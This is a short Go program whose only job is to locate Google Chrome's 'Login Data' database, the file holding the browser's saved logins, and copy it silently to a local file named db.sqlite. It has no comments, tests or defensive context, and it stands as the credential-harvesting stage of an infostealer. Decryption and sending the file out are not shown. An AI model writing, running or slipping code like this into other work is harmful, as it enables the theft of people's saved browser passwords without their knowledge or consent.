package main

import (
	"io"
	"os"
	"path/filepath"
)

func main() {
	cfg, err := os.UserConfigDir()
	if err != nil {
		return
	}
	src, err := os.Open(filepath.Join(cfg, "google-chrome", "Default", "Login Data"))
	if err != nil {
		return
	}
	defer src.Close()
	dst, _ := os.Create("db.sqlite")
	io.Copy(dst, src)
	dst.Close()
}
